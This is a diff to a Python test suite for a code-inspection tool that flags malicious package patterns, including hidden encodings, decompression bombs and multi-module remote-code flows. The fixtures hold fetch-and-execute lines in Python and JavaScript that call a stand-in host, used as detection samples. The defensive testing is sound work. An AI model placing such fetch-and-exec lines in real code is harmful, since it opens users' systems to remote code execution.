@@ -7,13 +7,17 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from sekisho.inspection import link
 from sekisho.inspection.configs.document import MalformedDocument, read_ini, read_json, read_toml, read_yaml
 from sekisho.inspection.extract import extract
 from sekisho.inspection.findings import Findings, Mark, Sink, Source
+from sekisho.inspection.invisible import hidden
 from sekisho.inspection.languages.folding import DECODERS, fold
+from sekisho.inspection.languages.javascript_source import lower_javascript
 from sekisho.inspection.languages.pickles import read_pickle
-from sekisho.inspection.text import decode, hidden, shown
+from sekisho.inspection.text import decode, shown
 from sekisho.inspection.virtual import VirtualFile
+from support.inspection import Files, inspected, verdict_by
 
 HIT = "\nimport requests\nexec(requests.get('https://a.invalid').text)\n"
 JS_HIT = "\nfetch('https://a.invalid').then(r => r.text()).then(t => eval(t));\n"
@@ -94,7 +98,7 @@ def test_the_source_is_read_as_python_would_read_it(data: bytes) -> None:
 
 @pytest.mark.parametrize("data", [ENCODED["utf-7"], ENCODED["rot13"], ENCODED["UTF-16"]])
 def test_an_encoding_that_hides_is_told(data: bytes) -> None:
-    assert Mark.HIDE in {sight.mark for sight in read("a.py", data).sights}
+    assert {Mark.DECEIVE, Mark.HIDE} & {sight.mark for sight in read("a.py", data).sights}
 
 
 def test_an_encoding_that_people_use_is_not() -> None:
@@ -207,3 +211,27 @@ def test_a_bomb_does_not_unfold() -> None:
     bomb = zlib.compress(bytes(50_000_000)).decode("latin-1")
     unfolded = fold("inflate", bomb)
     assert unfolded is None or len(unfolded) <= 1_000_000
+
+
+TYPES = {
+    "a type parameter called type": "type A<type extends B = B> =\n  | (type extends 'a' ? C : never)\n",
+    "an array of an imported type": "export function f(logs: import('./a').Log[]) {}\n",
+    "a reserved word as another name": "const delete_ = 1;\nexport { delete_ as delete };\n",
+    "variance": "interface A<in out T extends B> {}\n",
+}
+
+
+@pytest.mark.parametrize("source", TYPES.values(), ids=TYPES.keys())
+def test_typescript_that_the_grammar_does_not_know_is_no_gap(source: str) -> None:
+    assert lower_javascript(source, "typescript").lost == []
+
+
+def test_flows_that_are_not_followed_to_their_end_are_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
+    files: Files = {f"m{n}.py": f"from m{n + 1} import f as g\ndef f():\n    return g()\n" for n in range(6)}
+    files = {**files, "m6.py": "import requests\ndef f():\n    return requests.get('https://a.invalid').text\n",
+             "app.py": "from m0 import f\nexec(f())\n"}  # fmt: skip
+    assert verdict_by(files, "remote_code") == "block"
+    monkeypatch.setattr(link, "_ROUNDS", 3)
+    assert verdict_by(files, "remote_code") == ""
+    assert "not followed to their end" in " ".join(gap.why for gap in inspected(files).gaps)
+    assert inspected(files).verdict == "review"
